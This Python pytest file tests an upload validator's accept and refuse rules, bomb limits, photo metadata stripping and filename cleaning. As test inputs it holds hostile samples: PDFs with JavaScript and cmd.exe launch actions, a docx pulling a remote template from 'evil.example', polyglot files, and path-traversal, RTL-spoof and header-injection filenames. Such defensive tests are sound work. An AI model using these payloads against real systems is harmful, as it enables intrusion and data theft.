from __future__ import annotations

import subprocess
import sys
import time
import tracemalloc
import zipfile
from io import BytesIO

import pytest
from PIL import Image

from app.documents.enums import DocumentRefusal
from app.documents.labels import ERRORS
from app.documents.rules import CheckedFile, Limits, check_upload, clean_filename
from app.kernel.errors import DomainError
from tests.unit.documents import files
from tests.unit.documents.files import LIMITS

MEGABYTE = 1024 * 1024


def refusal(data: bytes, name: str, limits: Limits = LIMITS) -> str:
    with pytest.raises(DomainError) as raised:
        check_upload(data, name, limits)
    assert str(ERRORS[raised.value.code] % raised.value.params)
    return raised.value.code


@pytest.mark.parametrize(
    ("name", "data", "media_type"),
    [
        ("Estatutos 2024.PDF", files.PDF, "application/pdf"),
        ("a.docx", files.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("a.odt", files.odt(), "application/vnd.oasis.opendocument.text"),
        ("notes.txt", "Año, naïve, café\n".encode(), "text/plain"),
        ("list.csv", b"\xef\xbb\xbfname;year\nA;2020\n", "text/csv"),
        ("p.jpeg", files.picture("JPEG"), "image/jpeg"),
        ("p.png", files.picture("PNG", mode="RGBA"), "image/png"),
        ("p.webp", files.picture("WEBP"), "image/webp"),
    ],
)
def test_check_takes_what_is_on_the_list(name: str, data: bytes, media_type: str) -> None:
    checked = check_upload(data, name, LIMITS)
    assert checked.media_type == media_type
    assert checked.filename.rpartition(".")[2] == name.rpartition(".")[2].lower()


def test_check_takes_a_spreadsheet() -> None:
    data = files.archive({"[Content_Types].xml": files.XLSX_TYPES, "xl/workbook.xml": "<workbook/>"})
    assert check_upload(data, "b.xlsx", LIMITS).data == data


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.pdf", b"", DocumentRefusal.EMPTY),
        ("a.pdf", b"x" * (10 * MEGABYTE + 1), DocumentRefusal.TOO_LARGE),
        ("a.exe", b"MZ\x90\x00", DocumentRefusal.KIND_UNKNOWN),
        ("a.svg", b"<svg/>", DocumentRefusal.KIND_UNKNOWN),
        ("a.html", b"<html>", DocumentRefusal.KIND_UNKNOWN),
        ("noextension", b"hello", DocumentRefusal.KIND_UNKNOWN),
        ("a.heic", b"\x00\x00\x00\x18ftypheic", DocumentRefusal.APPLE_PHOTO),
        ("a.jpg", b"\x00\x00\x00\x18ftypheic0000", DocumentRefusal.APPLE_PHOTO),
        ("a.pdf", files.picture("PNG"), DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.jpg", files.picture("PNG"), DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.docx", files.PDF, DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.docx", files.odt(), DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.xlsx", files.docx(), DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.txt", files.PDF, DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.txt", b"#!/bin/sh\nrm", DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.txt", b"  <!DOCTYPE html><script>", DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.csv", b"a\x00b", DocumentRefusal.NOT_WHAT_IT_SAYS),
        ("a.txt", "Año".encode("cp1252"), DocumentRefusal.NOT_UTF8),
        ("a.pdf", files.PDF[:-10], DocumentRefusal.DAMAGED),
        ("a.png", files.picture("PNG", (200, 200))[:-90], DocumentRefusal.DAMAGED),
        ("a.docx", files.docx()[:-8], DocumentRefusal.DAMAGED),
    ],
)
def test_check_refuses_with_a_reason(name: str, data: bytes, code: str) -> None:
    assert refusal(data, name) == code


@pytest.mark.parametrize(
    "data",
    [
        files.PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        files.PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /J#61vaScript >>"),
        files.PDF.replace(b"/Catalog", b"/Catalog /Names << /EmbeddedFiles 2 0 R >>"),
        files.PDF.replace(b"/Catalog", b"/Catalog /AA << /S /Launch /F (cmd.exe) >>"),
    ],
)
def test_check_refuses_a_paper_that_runs(data: bytes) -> None:
    assert refusal(data, "a.pdf") == DocumentRefusal.ACTIVE


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/activeX/activeX1.bin": b"x"},
        {"xl/macrosheets/sheet1.xml": "x"},
        {"word/embeddings/run.exe": b"MZ"},
        {
            "word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
        },
    ],
)
def test_check_refuses_a_document_with_a_program(parts: dict[str, bytes | str]) -> None:
    assert refusal(files.docx(**parts), "a.docx") == DocumentRefusal.ACTIVE


def test_check_refuses_a_macro_document_renamed() -> None:
    types = files.DOCX_TYPES.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    data = files.archive({"[Content_Types].xml": types, "word/document.xml": "x"})
    assert refusal(data, "a.docx") == DocumentRefusal.ACTIVE


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.pdf", files.PDF[:-6] + files.archive({"a": "b"}) + b"%%EOF", DocumentRefusal.TWO_IN_ONE),
        ("a.jpg", files.picture("JPEG") + files.archive({"a.class": b"x"}), DocumentRefusal.TWO_IN_ONE),
        ("a.docx", files.docx() + b"<script>", DocumentRefusal.TWO_IN_ONE),
        ("a.docx", b"PK\x03\x04<html>" + files.docx(), DocumentRefusal.TWO_IN_ONE),
        ("a.txt", b"hello " + files.archive({"a": "b"}, zipfile.ZIP_STORED), DocumentRefusal.TWO_IN_ONE),
    ],
)
def test_check_refuses_two_files_in_one(name: str, data: bytes, code: str) -> None:
    assert refusal(data, name) == code


BOMBS = {
    "zip of one packed gigabyte": ("a.docx", lambda: files.docx(**{"b.xml": bytes(60 * MEGABYTE)})),
    "zip of overlapping entries": ("a.docx", files.overlapping_bomb),
    "zip of many empty entries": ("a.docx", lambda: files.docx(**{f"e{n}": b"" for n in range(20_000)})),
    "zip that lies about its size": ("a.docx", files.lying_bomb),
    "png of 900 million pixels": ("a.png", files.flood_png),
    "webp of 268 million pixels": ("a.webp", files.flood_webp),
    "jpeg of too many scans": ("a.jpg", lambda: files.picture("JPEG")[:-2] + b"\xff\xda" * 200 + b"\xff\xd9"),
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_check_refuses_a_bomb_quickly_and_in_little_memory(bomb: str) -> None:
    name, make = BOMBS[bomb]
    data = make()
    tracemalloc.start()
    started = time.monotonic()
    code = refusal(data, name)
    taken, peak = time.monotonic() - started, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert code in {DocumentRefusal.BOMB, DocumentRefusal.TOO_MANY_PIXELS, DocumentRefusal.DAMAGED}
    assert taken < 2
    assert peak < 50 * MEGABYTE


def test_check_cleans_a_photo_of_place_and_camera_and_turns_it_upright() -> None:
    data = files.photo_with_place()
    assert b"CANARY" in data
    checked = check_upload(data, "IMG_0001.JPG", LIMITS)
    picture = Image.open(BytesIO(checked.data))
    assert b"CANARY" not in checked.data
    assert dict(picture.getexif()) == {}
    assert picture.size == (40, 60)


def test_check_makes_a_large_picture_smaller() -> None:
    checked = check_upload(files.picture("JPEG", (5000, 1000)), "wide.jpg", LIMITS)
    assert Image.open(BytesIO(checked.data)).size == (2400, 480)


def test_check_keeps_what_is_see_through() -> None:
    checked = check_upload(files.picture("PNG", mode="RGBA"), "logo.png", LIMITS)
    assert Image.open(BytesIO(checked.data)).mode == "RGBA"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("C:\\Users\\me\\Estatutos.PDF", "Estatutos.pdf"),
        ("../../etc/passwd", "passwd"),
        ("fdp.\u202efdp.exe", "fdp.fdp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf"),
        (".pdf", "document.pdf"),
        ("", "document"),
        ("  Año   2024 .pdf", "Año 2024.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_clean_filename_hides_nothing(given: str, kept: str) -> None:
    assert clean_filename(given) == kept


def test_checked_file_is_a_value() -> None:
    assert CheckedFile(b"a", "a.txt", "text/plain") == CheckedFile(b"a", "a.txt", "text/plain")


MEASURE = """
import resource, sys, time
from app.documents.rules import check_upload
from app.kernel.errors import DomainError
from tests.unit.documents import files
import PIL.JpegImagePlugin, PIL.PngImagePlugin, PIL.WebPImagePlugin
check_upload(files.picture("PNG"), "a.png", files.LIMITS)
data, name = getattr(files, sys.argv[1])(), sys.argv[2]
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
started = time.monotonic()
try:
    check_upload(data, name, files.LIMITS)
except DomainError as error:
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(error.code, (after - before) // 1024, time.monotonic() - started)
"""


@pytest.mark.parametrize(
    ("bomb", "name"),
    [
        ("flood_png", "a.png"),
        ("flood_webp", "a.webp"),
        ("overlapping_bomb", "a.docx"),
        ("lying_bomb", "a.docx"),
    ],
)
def test_a_bomb_fills_no_memory_of_the_process_either(bomb: str, name: str) -> None:
    """The libraries' own memory is not Python's: measured from outside, as the operating system sees it."""
    command = [sys.executable, "-c", MEASURE, bomb, name]
    told = subprocess.run(command, capture_output=True, text=True, check=True).stdout.split()
    assert told[0] in {DocumentRefusal.BOMB, DocumentRefusal.TOO_MANY_PIXELS, DocumentRefusal.DAMAGED}
    assert int(told[1]) < 50
    assert float(told[2]) < 2
